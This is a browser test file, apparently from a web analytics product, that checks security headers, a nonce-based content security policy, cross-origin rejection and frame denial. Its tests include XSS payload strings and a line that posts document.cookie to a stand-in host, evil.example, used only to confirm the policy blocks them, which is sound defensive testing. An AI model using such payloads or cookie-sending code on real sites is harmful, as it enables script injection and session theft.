/** The web floor as a browser meets it: headers of every answer, a policy that nothing of ours breaks, one origin. */
import { readdirSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { floorHeaders } from '../../scripts/web/headers.ts';
import { startProxy } from '../servers/proxy.ts';
import { enter, signUp } from './journeys.ts';
import { Product } from './product.ts';

/** Every path that a file under src/routes answers, with a made-up id where one is wanted. */
function paths(file: RegExp): string[] {
	const found = readdirSync('src/routes', { recursive: true, encoding: 'utf8' }).filter((name) => file.test(name));
	return found.map((name) => {
		const segments = name.split('/').slice(0, -1);
		return `/${segments
			.filter((segment) => !/^\(.*\)$/.test(segment))
			.map((segment) => segment.replace(/\[.*\]/, 'nothing'))
			.join('/')}`;
	});
}

/** Says what the policy of a page stopped, and what went wrong in its console. */
async function watch(page: Page): Promise<string[]> {
	const heard: string[] = [];
	await page.exposeFunction('hearViolation', (text: string) => void heard.push(text));
	await page.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile, sample }) => {
			const report = Reflect.get(window, 'hearViolation');
			if (typeof report === 'function') report(`${violatedDirective}: ${blockedURI} ${sourceFile} ${sample}`);
		});
	});
	page.on('console', (message) => {
		// Pages that do not exist are among those visited.
		if (message.type() === 'error' && !message.text().includes('404')) heard.push(message.text());
	});
	page.on('pageerror', (error) => heard.push(error.message));
	return heard;
}

test.describe('the product on this machine', () => {
	let product: Product;

	test.beforeAll(async () => {
		product = await Product.start();
	});
	test.beforeEach(async ({ page }) => enter(page, product));
	test.afterAll(async () => {
		await product.close();
	});

	test('a click before the scripts are there is not lost: buttons say that they wait, and then they work', async ({
		page
	}) => {
		const held = Promise.withResolvers<void>();
		await page.route('**/_app/immutable/**/*.js', async (route) => {
			await held.promise;
			await route.continue();
		});
		await page.goto(`${product.url}/integrations`, { waitUntil: 'commit' });
		const sample = page.getByRole('button', { name: 'Look around with sample data' }).first();
		await expect(sample).toBeVisible();
		await expect(sample).toBeDisabled();
		for (const button of await page.getByRole('main').getByRole('button').all()) await expect(button).toBeDisabled();
		await sample.click({ force: true });
		await expect(page).toHaveURL(/\/integrations$/);
		held.resolve();
		await expect(sample).toBeEnabled();
		await sample.click();
		await page.waitForURL(/\/dashboards\/.+/);
		await expect(page.getByRole('article').locator('data').first()).toBeVisible({ timeout: 30_000 });
	});

	test('a form that needs no scripts does not wait for them', async ({ browser }) => {
		const context = await browser.newContext({ javaScriptEnabled: false });
		const page = await context.newPage();
		// Leads to the first run where nobody has an account yet.
		await page.goto(`${product.url}/sign-in`);
		await expect(page.locator('form[method=post] button[type=submit]').first()).toBeEnabled();
		await context.close();
	});

	test('every answer carries the floor, and no page anything inline', async ({ page: { request } }) => {
		const floor = floorHeaders(false);
		const pages = paths(/\+page\.svelte$/);
		const others = [
			...paths(/\+server\.ts$/),
			...pages.map((path) => `${path === '/' ? '' : path}/__data.json`),
			'/favicon.svg',
			...readdirSync('static/integrations').map((name) => `/integrations/${name}`),
			...readdirSync('build/client/_app/immutable/entry').map((name) => `/_app/immutable/entry/${name}`),
			'/_app/version.json',
			'/nothing/of/ours.txt'
		];
		expect(pages.length).toBeGreaterThan(6);
		expect(others.filter((path) => path.endsWith('.js')).length).toBeGreaterThan(0);
		for (const path of [...pages, ...others]) {
			for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'OPTIONS']) {
				const answer = await request.fetch(product.url + path, { method, maxRedirects: 0 });
				const { 'content-security-policy': policy, ...rest } = floor;
				const headers = answer.headers();
				const what = `${method} ${path}: ${answer.status()}`;
				expect(headers, what).toMatchObject(rest);
				expect(headers, what).not.toHaveProperty('x-powered-by');
				expect(headers, what).not.toHaveProperty('access-control-allow-origin');
				if (headers['x-sveltekit-page'] !== 'true') {
					expect(headers['content-security-policy'], what).toBe(policy);
					continue;
				}
				const own = headers['content-security-policy'] ?? '';
				expect(own, what).toMatch(/default-src 'none'/);
				expect(own, what).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{22,}'/);
				expect(own, what).toMatch(/connect-src 'self';/);
				expect(own, what).toMatch(/frame-ancestors 'none'/);
				expect(own, what).not.toMatch(/unsafe-(inline|eval)|\*|https?:/);
				const html = await answer.text();
				const nonce = /'nonce-([^']+)'/.exec(own)?.[1] ?? 'none';
				for (const [tag] of html.matchAll(/<script\b[^>]*>/g)) expect(tag, what).toContain(`nonce="${nonce}"`);
				expect(html, what).not.toMatch(/<[a-z][^<>]*\s(?:style|on[a-z]+)=/);
				expect(html, what).not.toContain('<style');
			}
		}
	});

	test('a nonce serves once', async ({ page: { request } }) => {
		const policies = await Promise.all(
			[1, 2, 3].map(async () => (await request.get(`${product.url}/integrations`)).headers()['content-security-policy'])
		);
		expect(new Set(policies).size).toBe(3);
	});

	test('what comes from another site changes nothing', async ({ page: { request } }) => {
		for (const path of [...paths(/\+page\.svelte$/), ...paths(/\+server\.ts$/)]) {
			const foreign: Record<string, string>[] = [
				{ origin: 'https://evil.example' },
				{ origin: 'null' },
				{ origin: product.url.replace('http:', 'https:') },
				{ 'sec-fetch-site': 'cross-site' },
				{ origin: 'https://evil.example', 'content-type': 'text/plain' },
				{ origin: 'https://evil.example', 'content-type': 'application/json' }
			];
			for (const headers of foreign) {
				const answer = await request.post(product.url + path, { headers, data: '{}', maxRedirects: 0 });
				expect(answer.status(), `${path} ${JSON.stringify(headers)}`).toBe(403);
			}
		}
	});

	test('a body has an end', async ({ page: { request } }) => {
		const big = await request.post(`${product.url}/healthz`, {
			headers: { origin: product.url, 'content-type': 'application/x-www-form-urlencoded' },
			data: 'a='.padEnd(600_000, 'x')
		});
		expect([405, 413]).toContain(big.status());
	});

	test('no page breaks its own policy, whatever is done on it', async ({ page }) => {
		const heard = await watch(page);
		for (const path of paths(/\+page\.svelte$/)) {
			await page.goto(product.url + path);
			await expect(page.getByRole('main')).toBeVisible();
			await page.waitForLoadState('networkidle');
		}
		await page.goto(product.url);
		await page.waitForURL(/\/dashboards\/.+/);
		// A chart with its tooltip, the two themes, the help, a table, another range.
		const chart = page.getByRole('img').first();
		await expect(page.locator('canvas').first()).toBeVisible();
		await chart.hover();
		for (const theme of ['Dark', 'Light', 'As the system'])
			await page.getByRole('radio', { name: theme }).check({ force: true });
		await page.getByRole('button', { name: 'Keyboard shortcuts' }).click();
		await page.keyboard.press('Escape');
		await page.getByText('Show as table').first().click();
		await page.getByText('7 d', { exact: true }).click();
		await expect(page).toHaveURL(/range=7d/);
		// From page to page in the browser: SvelteKit announces each.
		for (const name of ['Integrations', 'Metrics', 'Dashboards'])
			await page.getByRole('navigation').getByRole('link', { name }).first().click();
		await page.goto(`${product.url}/integrations/prometheus`);
		await page
			.getByRole('button', { name: /^Connect/ })
			.first()
			.click();
		await expect(page.getByRole('dialog', { name: 'Connect Prometheus' })).toBeVisible();
		await page.goto(`${product.url}/integrations/sample`);
		await page.locator('a[href^="/connections/"]').first().click();
		await page.waitForURL(/\/connections\/.+/);
		await page.getByRole('button', { name: /^Sync/ }).click();
		await page.reload();
		await page.waitForLoadState('networkidle');
		expect(heard).toEqual([]);
	});

	// B14
	for (const text of [
		'<img src=x onerror="window.ran=1">',
		'</script><script>window.ran=1</script>',
		'"><svg onload=window.ran=1>',
		'{@html "<b>x</b>"} ${window.ran=1} javascript:window.ran=1'
	]) {
		test(`a name is a text: ${text}`, async ({ page }) => {
			const heard = await watch(page);
			await page.goto(product.url);
			await page.waitForURL(/\/dashboards\/.+/);
			await page.getByRole('button', { name: 'Rename' }).click();
			await page.getByLabel(/Name of the dashboard/).fill(text);
			await page.getByRole('button', { name: 'Rename' }).click();
			await expect(page.getByRole('heading', { level: 1 })).toHaveText(text);
			await page.reload();
			await expect(page.getByRole('heading', { level: 1 })).toHaveText(text);
			await page.goto(`${product.url}/dashboards?q=${encodeURIComponent(text)}`);
			await page.goto(`${product.url}/metrics?q=${encodeURIComponent(text)}`);
			await page.goto(`${product.url}/integrations?q=${encodeURIComponent(text)}`);
			await page.waitForLoadState('networkidle');
			expect(await page.evaluate(() => 'ran' in window)).toBe(false);
			expect(heard).toEqual([]);
		});
	}

	test('markup that got in all the same does not run', async ({ page }) => {
		await page.goto(`${product.url}/integrations`);
		await page.waitForLoadState('networkidle');
		const stopped = await page.evaluate(async () => {
			const violated: string[] = [];
			document.addEventListener('securitypolicyviolation', (event) => violated.push(event.violatedDirective));
			const refused = (deed: () => void) => {
				try {
					deed();
					return false;
				} catch {
					return true;
				}
			};
			const host = document.body.appendChild(document.createElement('div'));
			const strings = refused(() => (host.innerHTML = '<img src=x onerror="window.ran=1">'));
			// As a hole that knows its way around the trusted types would do it.
			const parsed = new DOMParser();
			const markup = refused(() => parsed.parseFromString('<p>', 'text/html'));
			const script = document.createElement('script');
			const inline = refused(() => (script.textContent = 'window.ran=1'));
			script.append(document.createTextNode('window.ran=1'));
			host.append(script);
			const link = document.createElement('a');
			link.href = 'javascript:window.ran=1';
			host.append(link);
			link.click();
			const image = document.createElement('img');
			refused(() => image.setAttribute('onerror', 'window.ran=1'));
			image.src = 'https://evil.example/x.png';
			host.append(image);
			const far = document.createElement('script');
			refused(() => far.setAttribute('src', 'https://evil.example/x.js'));
			host.append(far);
			const frame = document.createElement('iframe');
			frame.src = 'https://evil.example/';
			host.append(frame);
			const sent = await fetch('https://evil.example/', { method: 'POST', body: document.cookie }).then(
				() => 'sent',
				() => 'stopped'
			);
			const told = new WebSocket('wss://evil.example/');
			await new Promise((heard) => told.addEventListener('error', heard));
			await new Promise((later) => setTimeout(later, 300));
			return { strings, markup, inline, sent, ran: 'ran' in window, violated };
		});
		expect(stopped).toMatchObject({ strings: true, markup: true, inline: true, sent: 'stopped', ran: false });
		for (const directive of ['img-src', 'frame-src', 'connect-src', 'require-trusted-types-for'])
			expect(stopped.violated).toContain(directive);
	});

	test('the pages reach the deployment through their own origin only', async ({ page }) => {
		const sockets: string[] = [];
		page.on('websocket', (socket) => sockets.push(socket.url()));
		const others: string[] = [];
		page.on('request', (request) => {
			if (!request.url().startsWith(product.url)) others.push(request.url());
		});
		await page.goto(`${product.url}/integrations`);
		await expect(page.getByText('Sample data').first()).toBeVisible();
		await expect.poll(() => sockets.length).toBeGreaterThan(0);
		for (const url of sockets)
			expect(url).toMatch(new RegExp(`^${product.url.replace('http', 'ws')}/api/[\\d.]+/sync$`));
		expect(others.filter((url) => !url.startsWith('data:'))).toEqual([]);
	});

	test('nobody may put a page of ours into a frame', async ({ page }) => {
		const { request } = page;
		const answer = await request.get(product.url);
		expect(answer.headers()['x-frame-options']).toBe('DENY');
		await page.setContent(`<iframe src="${product.url}/integrations" width="800" height="600"></iframe>`);
		await expect(page.frameLocator('iframe').getByText('Look around')).toHaveCount(0);
	});
});

test.describe('the product behind a proxy that ends TLS', () => {
	test('is whole on its public address, and strict about it', async ({ browser }) => {
		const proxy = await startProxy();
		const product = await Product.start({ PLUMBLINE_URL: proxy.url, PLUMBLINE_TRUSTED_PROXY: '127.0.0.1' });
		proxy.target = Number(new URL(product.url).port);
		try {
			expect(product.output).toContain(`Ready: open ${proxy.url}`);
			const context = await browser.newContext({ ignoreHTTPSErrors: true });
			const page = await context.newPage();
			await signUp(page, product, proxy.url);
			const heard = await watch(page);
			const sockets: string[] = [];
			page.on('websocket', (socket) => sockets.push(socket.url()));
			const answer = await page.goto(`${proxy.url}/integrations`);
			const { 'content-security-policy': _pagesHaveTheirOwn, ...floor } = floorHeaders(true);
			expect(answer?.headers()).toMatchObject(floor);
			await page.getByRole('button', { name: 'Look around with sample data' }).first().click();
			await page.waitForURL(/\/dashboards\/.+/);
			await expect(page.getByRole('article').locator('data').first()).toBeVisible({ timeout: 30_000 });
			for (const url of sockets) expect(url.startsWith(proxy.url.replace('https', 'wss'))).toBe(true);
			expect(sockets.length).toBeGreaterThan(0);
			expect(heard).toEqual([]);

			// Private hosts are not called for people who come from elsewhere.
			await page.goto(`${proxy.url}/integrations/prometheus`);
			await page
				.getByRole('button', { name: /^Connect/ })
				.first()
				.click();
			const dialog = page.getByRole('dialog', { name: 'Connect Prometheus' });
			await dialog.getByLabel('Address', { exact: true }).fill('https://127.0.0.1:9');
			await dialog.getByRole('button', { name: /^Test/ }).click();
			await expect(dialog.getByText(/private or reserved network/).first()).toBeVisible();

			for (const [origin, status] of [
				[proxy.url, 405],
				[product.url, 403]
			] as const) {
				const headers = { host: new URL(proxy.url).host, origin };
				const answer = await context.request.post(`https://127.0.0.1:${new URL(proxy.url).port}/healthz`, { headers });
				expect(answer.status()).toBe(status);
			}
			await context.close();
		} finally {
			await product.close();
			await proxy.close();
		}
	});
});
